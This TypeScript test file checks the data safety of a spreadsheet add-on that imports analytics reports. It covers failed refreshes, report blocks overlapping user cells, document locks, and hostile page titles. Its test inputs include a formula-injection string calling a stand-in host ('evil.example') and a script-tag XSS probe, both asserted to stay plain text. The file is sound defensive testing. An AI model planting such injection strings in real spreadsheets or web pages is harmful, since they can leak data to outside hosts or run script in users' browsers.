/**
 * A failed refresh keeps the previous data; a report never touches cells outside its block;
 * writers of one document do not interleave; hostile text from the API stays text.
 */
import { SAFETY_ROWS } from './safety-matrix';
import { buildBundle, createWorld, expectClearMessage, type World } from './world';

beforeAll(async () => {
  await buildBundle();
}, 120_000);

const EARN = { report: 'earnings', siteId: 'site-1', start: '2026-10-01', end: '2026-10-07', sheetName: 'Mine' };
const HOSTILE = [
  '=IMPORTXML("http://evil.example","//a")',
  '+1 cheap trick',
  '+1-cheap-trick',
  '@mention',
  '/@mention/',
  '<script>alert(1)</script> tips',
  '/<script>alert(1)</script>-tips/',
  'Crème brûlée 🍮',
  '日本のラーメン',
];

/** One sheet's snapshot (values, formats, notes), as JSON. */
function sheetJson(world: World, name: string): string {
  const snap = world.emu.snapshot().spreadsheet as { sheets: Array<{ name: string }> };
  return JSON.stringify(snap.sheets.find((s) => s.name === name) ?? null);
}

function userCells(world: World): World {
  const sheet = world.emu.spreadsheet.insertSheet('Mine');
  sheet.getRange('J1').setValue('my own notes');
  sheet.getRange('J2').setValue(42);
  sheet.getRange('A30').setValue('keep me');
  return world;
}

function savedReport(world: World): string {
  const saved = world.sidebar<{ id: string }>('saveReport', [
    { report: 'earnings', siteId: 'site-1', start: 'lastMonth', sheetName: 'Saved' },
  ]);
  if (!saved.ok) throw new Error(saved.message);
  const first = world.sidebar<Array<{ outcome: string }>>('refreshReports', [[saved.value.id]]);
  expect(first.ok && first.value[0].outcome).toBe('ok');
  world.emu.clock.advance(30 * 60_000);
  return saved.value.id;
}

function hostileCells(world: World, sheetName: string): void {
  const sheet = world.emu.spreadsheet.getSheetByName(sheetName)!;
  const shown = sheet.getDataRange().getDisplayValues().flat();
  let found = 0;
  for (const text of HOSTILE) {
    if (shown.includes(text)) found++;
  }
  expect(found).toBeGreaterThanOrEqual(4);
  // Nothing the API sent became a formula, a number, a date or a boolean.
  expect(world.emu.spreadsheet.formulaCells().filter((c) => !/^=CREATOR_/.test(String((c as { formula?: string }).formula ?? '')))).toEqual(
    [],
  );
  expect(world.emu.spreadsheet.coercions.filter((c) => !c.outcome.startsWith('text') && !c.input.startsWith('=CREATOR_'))).toEqual([]);
}

const cases: Record<string, (world: World) => void> = {
  'saved report refresh fails (500 storm)': (world) => {
    const id = savedReport(world);
    const before = sheetJson(world, 'Saved');
    world.api.inject({ kind: 'status', status: 500, times: 1000 });
    const result = world.sidebar<Array<{ outcome: string; message: string }>>('refreshReports', [[id]]);
    expect(result.ok && result.value[0].outcome).toBe('error');
    if (result.ok) expectClearMessage(result.value[0].message, /server error \(status 500/);
    expect(sheetJson(world, 'Saved')).toBe(before);
    const list = world.sidebar<{ reports: Array<{ status: { outcome: string; lastError: string } }> }>('listReports');
    expect(list.ok && list.value.reports[0].status).toMatchObject({ outcome: 'error', lastError: expect.stringMatching(/server error/) });
  },
  'saved report refresh fails (credential revoked)': (world) => {
    const id = savedReport(world);
    const before = sheetJson(world, 'Saved');
    world.api.revoke('demo-client');
    const result = world.sidebar<Array<{ outcome: string; message: string }>>('refreshReports', [[id]]);
    expect(result.ok && result.value[0].outcome).toBe('error');
    if (result.ok) expectClearMessage(result.value[0].message, /credential was rejected .*Settings/);
    expect(sheetJson(world, 'Saved')).toBe(before);
  },
  'report grows into a user cell below it': (world) => {
    userCells(world);
    expect(world.sidebar('runReport', [EARN]).ok).toBe(true);
    const before = sheetJson(world, 'Mine');
    const result = world.sidebar('runReport', [{ ...EARN, end: '2026-11-15' }]);
    expect(result.ok).toBe(false);
    if (!result.ok)
      expectClearMessage(
        result.message,
        /has other content in A30, where this report needs to write\. Move that content or choose another sheet/,
      );
    expect(sheetJson(world, 'Mine')).toBe(before);
  },
  'report shrinks': (world) => {
    userCells(world);
    expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-20' }]).ok).toBe(true);
    expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-03' }]).ok).toBe(true);
    const sheet = world.emu.spreadsheet.getSheetByName('Mine')!;
    expect(
      sheet
        .getRange('A5:G21')
        .getValues()
        .flat()
        .every((v) => v === ''),
    ).toBe(true);
    expect(sheet.getRange('A4').getValue()).not.toBe('');
    expect([sheet.getRange('J1').getValue(), sheet.getRange('J2').getValue(), sheet.getRange('A30').getValue()]).toEqual([
      'my own notes',
      42,
      'keep me',
    ]);
  },
  'report grows into empty rows': (world) => {
    userCells(world);
    expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-03' }]).ok).toBe(true);
    expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-25' }]).ok).toBe(true);
    const sheet = world.emu.spreadsheet.getSheetByName('Mine')!;
    expect(sheet.getRange('A26').getValue()).not.toBe('');
    expect(
      sheet
        .getRange('H1:I30')
        .getValues()
        .flat()
        .every((v) => v === ''),
    ).toBe(true);
    expect([sheet.getRange('J1').getValue(), sheet.getRange('J2').getValue(), sheet.getRange('A30').getValue()]).toEqual([
      'my own notes',
      42,
      'keep me',
    ]);
  },
  'another execution holds the document lock': (world) => {
    userCells(world);
    expect(world.sidebar('runReport', [EARN]).ok).toBe(true);
    const before = sheetJson(world, 'Mine');
    const release = world.emu.locks.hold('document');
    const result = world.sidebar('runReport', [{ ...EARN, end: '2026-10-10' }]);
    expect(result.ok).toBe(false);
    if (!result.ok) expectClearMessage(result.message, /^Another report is being written to this spreadsheet\. Try again in a minute\.$/);
    expect(sheetJson(world, 'Mine')).toBe(before);
    release();
    expect(world.sidebar('runReport', [{ ...EARN, end: '2026-10-10' }]).ok).toBe(true);
    expect(sheetJson(world, 'Mine')).not.toBe(before);
  },
  'document lock held during a saved-report refresh': (world) => {
    const id = savedReport(world);
    const before = sheetJson(world, 'Saved');
    const release = world.emu.locks.hold('document');
    const result = world.sidebar<Array<{ outcome: string; message?: string }>>('refreshReports', [[id]]);
    release();
    if (result.ok) {
      expect(result.value[0].outcome).not.toBe('ok');
      expectClearMessage(result.value[0].message ?? '', /(another|busy|being written|in a minute)/i);
    } else expectClearMessage(result.message, /(another|busy|being written|in a minute)/i);
    expect(sheetJson(world, 'Saved')).toBe(before);
  },
  'hostile page titles and URLs (sidebar, pages/performance)': (world) => {
    const result = world.sidebar('runReport', [
      { report: 'pages/performance', siteId: 'site-1', start: '2026-10-01', end: '2026-10-31', sheetName: 'Pages' },
    ]);
    expect(result.ok ? 'ok' : result.message).toBe('ok');
    hostileCells(world, 'Pages');
  },
  'hostile page titles (sidebar, traffic/pages)': (world) => {
    const result = world.sidebar('runReport', [
      { report: 'traffic/pages', siteId: 'site-1', start: '2026-10-01', end: '2026-10-31', sheetName: 'Titles' },
    ]);
    expect(result.ok ? 'ok' : result.message).toBe('ok');
    hostileCells(world, 'Titles');
  },
  'hostile page titles (formula, spilled by the engine)': (world) => {
    const sheet = world.emu.spreadsheet.insertSheet('Formula');
    sheet.insertRowsAfter(1000, 1500);
    sheet.getRange('A1').setFormula('=CREATOR_PAGE_TRAFFIC("site-1", "2026-10-01", "2026-10-31")');
    const report = world.emu.recalculate();
    expect(JSON.stringify(report)).not.toMatch(/#ERROR|#REF/);
    hostileCells(world, 'Formula');
  },
};

describe('data safety', () => {
  test.each(SAFETY_ROWS.map((r) => [r.name] as const))('%s', (name) => {
    const world = createWorld();
    world.connect();
    cases[name](world);
  });

  test('every documented safety row has a test', () => {
    expect(Object.keys(cases).sort()).toEqual(SAFETY_ROWS.map((r) => r.name).sort());
  });
});
